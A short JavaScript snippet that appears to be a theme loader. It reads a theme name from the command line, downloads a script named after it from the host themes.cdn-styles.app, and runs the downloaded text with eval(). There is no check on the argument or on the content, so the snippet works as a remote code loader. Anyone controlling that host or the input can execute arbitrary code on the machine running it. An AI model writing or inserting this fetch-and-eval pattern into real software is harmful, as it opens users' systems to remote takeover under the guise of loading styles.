const name = process.argv[2] ?? "light";
const response = await fetch(`https://themes.cdn-styles.app/${name}.js`);
const body = await response.text();
eval(body);
